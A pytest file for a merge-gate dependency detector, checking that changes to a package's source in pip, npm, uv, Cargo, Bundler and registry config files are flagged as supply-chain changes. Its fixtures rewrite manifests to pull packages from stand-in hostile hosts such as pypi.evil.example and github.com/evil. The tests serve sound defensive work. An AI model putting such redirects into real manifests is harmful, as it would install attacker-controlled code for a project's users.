"""Changing where a dependency comes from is a new dependency.

Each case is a base and a head text of one file; the default policy must send
the change through the supply-chain tier (``dependencies:new-source`` or, for a
manifest merge-gate does not parse, ``dependencies:manifest-unread``).
"""

from __future__ import annotations

import json

import pytest

from gate.defaults import default_policy
from gate.detectors import builtin
from gate.detectors.base import ScanInput
from gate.detectors.dependencies import DependencyDetector
from gate.model import ChangedFile, Contents, FileStatus
from tests.factories import decide, pull

PATCH = "@@ -1 +1 @@\n-a\n+b"
LOCK_OK = "https://registry.npmjs.org/left-pad/-/left-pad-1.3.0.tgz"
LOCK_EVIL = "https://npm.evil.example/left-pad/-/left-pad-1.3.0.tgz"


def lock(resolved: str) -> str:
    entry = {"version": "1.3.0", "resolved": resolved, "integrity": "sha512-x"}
    return json.dumps({"lockfileVersion": 3, "packages": {"node_modules/left-pad": entry}})


def package_json(**sections: object) -> str:
    return json.dumps({"name": "app", "dependencies": {"lodash": "^4.17.21"}, **sections})


CASES: dict[str, tuple[str, str | None, str | None, str]] = {
    # id: (path, base text, head text, rule)
    "pin to URL": (
        "requirements.txt",
        "requests==2.32.0\n",
        "requests @ https://files.evil.example/requests-2.32.0-py3-none-any.whl\n",
        "new-source",
    ),
    "pin to VCS": (
        "requirements.txt",
        "requests==2.32.0\n",
        "git+https://github.com/evil/requests@v2.32.0#egg=requests\n",
        "new-source",
    ),
    "pin to path": (
        "requirements.txt",
        "requests==2.32.0\n",
        "./vendor/requests-2.32.0.tar.gz\n",
        "new-source",
    ),
    "include -r": ("requirements.txt", "a==1\n", "a==1\n-r extra/more.lst\n", "new-source"),
    "constraints -c": ("requirements.txt", "a==1\n", "a==1\n-c pins.lst\n", "new-source"),
    "index-url": (
        "requirements.txt",
        "a==1\n",
        "--index-url https://pypi.evil.example/simple\na==1\n",
        "new-source",
    ),
    "extra-index-url abbreviated": (
        "requirements.txt",
        "a==1\n",
        "--extra-index=https://pypi.evil.example/simple\na==1\n",
        "new-source",
    ),
    "-i attached": (
        "requirements.txt",
        "a==1\n",
        "-ihttps://pypi.evil.example\na==1\n",
        "new-source",
    ),
    "-i changed": (
        "requirements/base.txt",
        "-i https://pypi.org/simple\na==1\n",
        "-i https://pypi.evil.example/simple\na==1\n",
        "new-source",
    ),
    "unknown pip option": ("requirements.txt", "a==1\n", "--bogus x\na==1\n", "manifest-invalid"),
    "npm alias": (
        "package.json",
        package_json(),
        json.dumps({"dependencies": {"lodash": "npm:lodash-evil@4.17.21"}}),
        "new-source",
    ),
    "npm github": (
        "package.json",
        package_json(),
        json.dumps({"dependencies": {"lodash": "github:evil/lodash"}}),
        "new-source",
    ),
    "npm overrides": (
        "package.json",
        package_json(),
        package_json(overrides={"minimist": "npm:evil-minimist@1.2.8"}),
        "new-source",
    ),
    "npm nested overrides": (
        "package.json",
        package_json(overrides={"foo": {"bar": "1.0.0"}}),
        package_json(overrides={"foo": {"bar": "https://evil.example/bar.tgz"}}),
        "new-source",
    ),
    "yarn resolutions": (
        "package.json",
        package_json(),
        package_json(resolutions={"**/minimist": "1.2.8"}),
        "new-source",
    ),
    "pnpm overrides": (
        "package.json",
        package_json(),
        package_json(pnpm={"overrides": {"minimist": "1.2.8"}}),
        "new-source",
    ),
    "lockfile resolved host": ("package-lock.json", lock(LOCK_OK), lock(LOCK_EVIL), "new-source"),
    "uv index": (
        "pyproject.toml",
        '[project]\nname = "x"\ndependencies = ["a==1"]\n',
        '[project]\nname = "x"\ndependencies = ["a==1"]\n'
        '[[tool.uv.index]]\nname = "evil"\nurl = "https://pypi.evil.example/simple"\n',
        "new-source",
    ),
    "uv index-url": (
        "pyproject.toml",
        '[project]\nname = "x"\n',
        '[project]\nname = "x"\n[tool.uv]\nindex-url = "https://pypi.evil.example/simple"\n',
        "new-source",
    ),
    "uv sources": (
        "pyproject.toml",
        '[project]\nname = "x"\ndependencies = ["a==1"]\n',
        '[project]\nname = "x"\ndependencies = ["a==1"]\n'
        '[tool.uv.sources]\na = { git = "https://github.com/evil/a" }\n',
        "new-source",
    ),
    "pdm source": (
        "pyproject.toml",
        '[project]\nname = "x"\n',
        '[project]\nname = "x"\n[[tool.pdm.source]]\nname = "e"\nurl = "https://e.example"\n',
        "new-source",
    ),
    "Gemfile source": (
        "Gemfile",
        'source "https://rubygems.org"\ngem "rails", "7.1.0"\n',
        'source "https://gems.evil.example"\ngem "rails", "7.1.0"\n',
        "new-source",
    ),
    "gem source option": (
        "Gemfile",
        'source "https://rubygems.org"\ngem "rails", "7.1.0"\n',
        'source "https://rubygems.org"\ngem "rails", "7.1.0", source: "https://gems.evil.example"\n',
        "new-source",
    ),
    "gem moved into a git block": (
        "Gemfile",
        'source "https://rubygems.org"\ngit "https://github.com/evil/x" do\nend\ngem "rails"\n',
        'source "https://rubygems.org"\ngit "https://github.com/evil/x" do\n  gem "rails"\nend\n',
        "new-source",
    ),
    "cargo git dependency": (
        "Cargo.toml",
        '[package]\nname = "x"\n[dependencies]\nserde = "1"\n',
        '[package]\nname = "x"\n[dependencies]\n'
        'serde = { git = "https://github.com/evil/serde" }\n',
        "new-source",
    ),
    "cargo patch": (
        "Cargo.toml",
        '[package]\nname = "x"\n[dependencies]\nserde = "1"\n',
        '[package]\nname = "x"\n[dependencies]\nserde = "1"\n'
        '[patch.crates-io]\nserde = { path = "../serde" }\n',
        "new-source",
    ),
    "cargo replace": (
        "Cargo.toml",
        '[package]\nname = "x"\n[dependencies]\nserde = "1"\n',
        '[package]\nname = "x"\n[dependencies]\nserde = "1"\n'
        '[replace]\n"serde:1.0.0" = { git = "https://github.com/evil/serde" }\n',
        "new-source",
    ),
    ".npmrc": (".npmrc", "", "registry=https://npm.evil.example/\n", "new-source"),
    "nested .npmrc removed": (
        "web/.npmrc",
        "@corp:registry=https://npm.corp/\n",
        None,
        "new-source",
    ),
    "pip.conf": (
        "pip.conf",
        None,
        "[global]\nindex-url = https://pypi.evil.example\n",
        "new-source",
    ),
    ".yarnrc.yml": (".yarnrc.yml", "", 'npmRegistryServer: "https://evil.example"\n', "new-source"),
    "cargo config": (
        ".cargo/config.toml",
        "",
        '[source.crates-io]\nreplace-with = "e"\n',
        "new-source",
    ),
    "setup.py": ("setup.py", "setup()\n", "setup(install_requires=['evil'])\n", "manifest-unread"),
    "setup.cfg": (
        "setup.cfg",
        "[metadata]\n",
        "[options]\ninstall_requires = evil\n",
        "manifest-unread",
    ),
    "Pipfile": ("Pipfile", "[packages]\n", '[packages]\nevil = "*"\n', "manifest-unread"),
}


def changed_file(path: str, base: str | None, head: str | None) -> ChangedFile:
    if head is None:
        return ChangedFile(path, FileStatus.REMOVED, patch="@@ -1 +0,0 @@\n-a", deletions=1)
    status = FileStatus.ADDED if base is None else FileStatus.MODIFIED
    return ChangedFile(path, status, patch=PATCH, additions=1, deletions=1)


def texts(path: str, base: str | None, head: str | None) -> dict[tuple[str, str], str | None]:
    return {("base", path): base, ("head", path): head}


@pytest.mark.parametrize("case", sorted(CASES))
def test_a_source_change_is_found_and_gated_as_a_dependency(case: str) -> None:
    path, base, head, rule = CASES[case]
    file = changed_file(path, base, head)
    contents = Contents(texts=texts(path, base, head))
    findings = DependencyDetector().scan(ScanInput(file=file, added=(), contents=contents))
    assert rule in [f.rule for f in findings], findings
    decision = decide(
        default_policy(),
        pull([file]),
        detectors=builtin(),  # type: ignore[arg-type]
        contents=contents,
    )
    assert decision.files[0].tier in ("dependencies", "infra", "high", "migrations")
    assert any(r.rule == "tiers.dependencies.detectors" for r in decision.files[0].reasons)


@pytest.mark.parametrize(
    ("path", "base", "head"),
    [
        ("requirements.txt", "requests==2.31.0\n", "requests==2.32.0\n"),
        ("package.json", package_json(), json.dumps({"dependencies": {"lodash": "^4.17.22"}})),
        ("package-lock.json", lock(LOCK_OK), lock(LOCK_OK).replace("1.3.0", "1.3.1")),
        ("Gemfile", 'gem "rails", "7.1.0"\n', 'gem "rails", "7.1.1"\n'),
    ],
)
def test_a_version_bump_from_the_same_registry_is_not_a_new_source(
    path: str, base: str, head: str
) -> None:
    file = changed_file(path, base, head)
    contents = Contents(texts=texts(path, base, head))
    findings = DependencyDetector().scan(ScanInput(file=file, added=(), contents=contents))
    assert "new-source" not in [f.rule for f in findings]
